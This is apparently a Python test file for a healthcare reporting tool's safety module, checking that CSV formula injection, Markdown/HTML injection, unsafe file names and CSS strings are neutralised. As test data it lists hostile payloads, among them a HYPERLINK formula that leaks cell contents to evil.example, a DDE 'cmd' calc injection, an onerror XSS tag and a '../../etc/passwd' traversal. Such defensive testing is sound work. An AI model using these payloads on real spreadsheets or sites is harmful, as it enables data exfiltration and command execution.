import re

from hypothesis import given
from hypothesis import strategies as st

from vbhc.safety import FORMULA_TRIGGERS, md_escape, neutralise_formula


def test_formulas_become_text() -> None:
    assert neutralise_formula('=HYPERLINK("http://x","klik")') == '\'=HYPERLINK("http://x","klik")'
    assert neutralise_formula("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert neutralise_formula("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise_formula("-2+3") == "'-2+3"


def test_plain_values_pass() -> None:
    assert neutralise_formula("Ziekenhuis A") == "Ziekenhuis A"
    assert neutralise_formula(-3.5) == -3.5
    assert neutralise_formula(None) is None


@given(st.text())
def test_no_text_leaves_starting_with_a_trigger(text: str) -> None:
    out = neutralise_formula(text)
    assert not str(out).startswith(FORMULA_TRIGGERS)
    assert str(out).endswith(text)


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 cmd",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _read_csv(data: bytes) -> list[list[str]]:
    import csv
    import io

    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_safe_csv_neutralises_every_formula_cell_header_and_index() -> None:
    import pandas as pd

    from vbhc.safety import safe_csv

    frame = pd.DataFrame(
        {
            "file_name": HOSTILE_CELLS,
            "=imported_by": ["@SUM(A1:A9)"] * len(HOSTILE_CELLS),
            "rows": [-3, 0, 5, 7, 9, 11, 13],
        },
        index=pd.Index(["=H01", *[f"H{i:02d}" for i in range(2, 8)]], name="@unit"),
    )
    rows = _read_csv(safe_csv(frame, index=True))
    assert rows[0] == ["'@unit", "file_name", "'=imported_by", "rows"]
    for row, original in zip(rows[1:], HOSTILE_CELLS, strict=True):
        assert row[1] == "'" + original
        assert row[2] == "'@SUM(A1:A9)"
        assert not row[1].startswith(FORMULA_TRIGGERS) and not row[0].startswith(FORMULA_TRIGGERS)
    assert rows[1][0] == "'=H01" and rows[2][0] == "H02"
    assert [r[3] for r in rows[1:]] == ["-3", "0", "5", "7", "9", "11", "13"]  # numbers stay numbers
    assert _read_csv(safe_csv(frame.reset_index(drop=True)))[0][0] == "file_name"


ASCII_PUNCTUATION = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
HOSTILE_NAMES = [
    "[H67](https://evil.example)",
    "<img src=x onerror=alert(1)>",
    "**bold**",
    "`code`",
    "$x$",
    "~~gone~~",
    "# heading",
    "<https://evil.example>",
    "![x](https://evil.example/x.png)",
    "www.evil.example",
    ":red[colour] &amp; \\",
]


def _markdown_inert(escaped: str) -> bool:
    """CommonMark reads a backslash before ASCII punctuation as that character, taken literally: text in which
    every punctuation character is so escaped has no markup left (no link, HTML, emphasis, code, math)."""
    return not (set(re.sub(r"\\.", "", escaped)) & ASCII_PUNCTUATION)


def _rendered(escaped: str) -> str:
    return re.sub(r"\\(.)", r"\1", escaped)


def test_md_escape_makes_data_literal_markdown() -> None:
    for name in HOSTILE_NAMES:
        escaped = md_escape(name)
        assert _markdown_inert(escaped), (name, escaped)
        assert _rendered(escaped) == name  # the reader sees exactly what was imported
    assert md_escape("[H67](https://x)") == r"\[H67\]\(https\:\/\/x\)"
    assert md_escape("$x$") == r"\$x\$"
    assert md_escape("a\nb\r\nc") == "a b c"  # a title or an alert stays one line
    assert md_escape("H01") == "H01" and md_escape(None) == ""


@given(st.text())
def test_md_escape_leaves_no_markup_and_keeps_the_text(text: str) -> None:
    escaped = md_escape(text)
    assert _markdown_inert(escaped)
    assert _rendered(escaped) == re.sub(r"[\r\n\t\f\v\u2028\u2029]+", " ", text)


def test_safe_file_name_keeps_names_plain() -> None:
    from vbhc.safety import safe_file_name

    assert (
        safe_file_name("vbhc-colorectal_cancer-hospital-2024-H01/SUR.pdf")
        == "vbhc-colorectal_cancer-hospital-2024-H01_SUR.pdf"
    )
    assert safe_file_name('=HYPERLINK("x")\r\n.csv') == "HYPERLINK_x_.csv"
    assert safe_file_name("../../etc/passwd") == "etc_passwd"
    assert safe_file_name("") == "export"


@given(st.text(max_size=60))
def test_css_text_cannot_end_its_string_or_rule(text: str) -> None:
    from vbhc.safety import css_text

    quoted = css_text(text)
    inner = quoted[1:-1]
    assert quoted[0] == quoted[-1] == '"'
    assert not set(inner) & set("\"'<>{}/\\\n") - {"\\"}
    # every escape is a backslash and exactly six hex digits: decoding gives the text back
    decoded = re.sub(r"\\([0-9a-f]{6})", lambda m: chr(int(m.group(1), 16)), inner)
    assert decoded == text
